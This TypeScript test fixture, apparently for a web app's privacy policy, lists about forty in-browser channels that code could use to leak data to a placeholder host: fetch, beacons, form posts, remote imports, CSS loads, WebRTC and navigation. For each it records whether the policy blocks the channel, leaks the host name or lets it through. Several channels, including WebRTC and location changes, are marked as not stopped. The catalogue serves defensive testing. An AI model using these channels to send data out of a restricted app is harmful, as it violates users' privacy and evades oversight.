/** Attempts to get a word out of the app, as code that runs in one realm of it. `HOST` stands for a host of its own. */
export interface Leak {
  name: string;
  /** `document`, `worker` (any of ours) and `serviceWorker`. */
  realms: readonly ('document' | 'worker' | 'serviceWorker')[];
  /**
   * `blocked`: no byte leaves. `name`: Chromium connects to the host before the policy refuses the request, so that its name gets
   * out. `limit`: nothing stops it.
   */
  outcome: 'blocked' | 'name' | 'limit';
  /** What the privacy page calls it, where it is not blocked. */
  saidAs?: string;
  /** Body of an asynchronous function. */
  code: string;
}

const everywhere = ['document', 'worker', 'serviceWorker'] as const;
const document = ['document'] as const;
const workers = ['document', 'worker'] as const;

const added = (tag: string, attributes: string) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${attributes}))`;
const link = (rel: string, more = '') => added('link', `{ rel: '${rel}', href: 'https://HOST/' ${more} }`);
const styled = (css: string) =>
  `const style = document.createElement('style'); style.textContent = ${JSON.stringify(css)}; document.head.append(style); await document.fonts.load('1em leak').catch(() => {})`;

const wasm = '[0, 97, 115, 109, 1, 0, 0, 0]';

export const leaks: readonly Leak[] = [
  { name: 'fetch', realms: everywhere, outcome: 'blocked', code: `await fetch('https://HOST/?career')` },
  {
    name: 'fetch-no-cors',
    realms: everywhere,
    outcome: 'blocked',
    code: `await fetch('https://HOST/', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'career' })`,
  },
  {
    name: 'xhr',
    realms: workers,
    outcome: 'blocked',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'https://HOST/'); x.send()`,
  },
  { name: 'websocket', realms: everywhere, outcome: 'blocked', code: `new WebSocket('wss://HOST/')` },
  { name: 'eventsource', realms: workers, outcome: 'blocked', code: `new EventSource('https://HOST/')` },
  {
    name: 'webtransport',
    realms: workers,
    outcome: 'blocked',
    code: `await new WebTransport('https://HOST/').ready`,
  },
  {
    name: 'beacon',
    realms: document,
    outcome: 'blocked',
    code: `navigator.sendBeacon('https://HOST/', 'x')`,
  },
  { name: 'import', realms: workers, outcome: 'blocked', code: `await import('https://HOST/x.js')` },
  {
    name: 'wasm-streaming',
    realms: everywhere,
    outcome: 'blocked',
    code: `await WebAssembly.compileStreaming(fetch('https://HOST/x.wasm'))`,
  },
  {
    name: 'wasm-import',
    realms: everywhere,
    outcome: 'blocked',
    // A module has no way out of its own; an import that is handed to it is under the policy of its realm.
    code: `await WebAssembly.instantiate(new Uint8Array(${wasm}), { env: { leak: fetch } }); await fetch('https://HOST/')`,
  },
  {
    name: 'foreign-worker',
    realms: workers,
    outcome: 'blocked',
    code: `new Worker('https://HOST/worker.js')`,
  },
  {
    name: 'blob-worker',
    realms: workers,
    outcome: 'blocked',
    code: `new Worker(URL.createObjectURL(new Blob(["fetch('https://HOST/')"])))`,
  },
  {
    name: 'shared-worker',
    realms: document,
    outcome: 'blocked',
    code: `new SharedWorker('https://HOST/worker.js')`,
  },
  {
    name: 'import-scripts',
    realms: ['serviceWorker'],
    outcome: 'blocked',
    code: `importScripts('https://HOST/x.js')`,
  },
  { name: 'eval', realms: workers, outcome: 'blocked', code: `(0, eval)("fetch('https://HOST/')")` },
  { name: 'function', realms: workers, outcome: 'blocked', code: `new Function("fetch('https://HOST/')")()` },
  {
    name: 'inline-script',
    realms: document,
    outcome: 'blocked',
    code: added('script', `{ textContent: "fetch('https://HOST/')" }`),
  },
  {
    name: 'script',
    realms: document,
    outcome: 'blocked',
    code: added('script', `{ src: 'https://HOST/x.js' }`),
  },
  {
    name: 'inner-html',
    realms: document,
    outcome: 'blocked',
    code: `document.createElement('div').innerHTML = '<img src="https://HOST/">'`,
  },
  { name: 'image', realms: document, outcome: 'blocked', code: `new Image().src = 'https://HOST/x.png'` },
  {
    name: 'media',
    realms: document,
    outcome: 'blocked',
    code: added('video', `{ src: 'https://HOST/x.mp4' }`),
  },
  {
    name: 'object',
    realms: document,
    outcome: 'blocked',
    code: added('object', `{ data: 'https://HOST/' }`),
  },
  {
    name: 'iframe',
    realms: document,
    outcome: 'name',
    saidAs: 'by name',
    code: added('iframe', `{ src: 'https://HOST/' }`),
  },
  {
    name: 'css-import',
    realms: document,
    outcome: 'blocked',
    code: styled(`@import url('https://HOST/x.css');`),
  },
  {
    name: 'css-url',
    realms: document,
    outcome: 'blocked',
    code: `document.body.style.backgroundImage = "url('https://HOST/x.png')"`,
  },
  {
    name: 'css-font',
    realms: document,
    outcome: 'blocked',
    code: `const face = new FontFace('leak', 'url(https://HOST/x.woff2)'); document.fonts.add(face); await face.load()`,
  },
  {
    name: 'css-rule',
    realms: document,
    outcome: 'blocked',
    code: `document.styleSheets[0].insertRule('body::after { content: url(https://HOST/x.png) }')`,
  },
  { name: 'stylesheet', realms: document, outcome: 'blocked', code: link('stylesheet') },
  { name: 'prefetch', realms: document, outcome: 'blocked', code: link('prefetch') },
  { name: 'preload', realms: document, outcome: 'blocked', code: link('preload', `, as: 'image'`) },
  { name: 'modulepreload', realms: document, outcome: 'blocked', code: link('modulepreload') },
  { name: 'manifest', realms: document, outcome: 'blocked', code: link('manifest') },
  { name: 'icon', realms: document, outcome: 'blocked', code: link('icon') },
  {
    name: 'form',
    realms: document,
    outcome: 'name',
    saidAs: 'by name',
    code: `const form = Object.assign(document.createElement('form'), { action: 'https://HOST/', method: 'POST' }); document.body.append(form); form.submit()`,
  },
  {
    name: 'ping',
    realms: document,
    outcome: 'blocked',
    code: `const a = Object.assign(document.createElement('a'), { href: '#privacy', ping: 'https://HOST/' }); document.body.append(a); a.click()`,
  },
  {
    name: 'speculation',
    realms: document,
    outcome: 'blocked',
    code: added(
      'script',
      `{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['https://HOST/'] }] }) }`,
    ),
  },
  {
    name: 'webrtc',
    realms: document,
    outcome: 'limit',
    saidAs: 'WebRTC',
    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
  },
  { name: 'dns-prefetch', realms: document, outcome: 'limit', saidAs: 'by name', code: link('dns-prefetch') },
  { name: 'preconnect', realms: document, outcome: 'blocked', code: link('preconnect') },
  {
    name: 'window-open',
    realms: document,
    outcome: 'limit',
    saidAs: 'window.open',
    code: `open('https://HOST/?career')`,
  },
  {
    name: 'client-navigate',
    realms: ['serviceWorker'],
    outcome: 'limit',
    saidAs: 'going to another address',
    code: `const [c] = await clients.matchAll(); await c.navigate('https://HOST/')`,
  },
  {
    name: 'location',
    realms: document,
    outcome: 'limit',
    saidAs: 'location = …',
    code: `location.href = 'https://HOST/?career'`,
  },
];
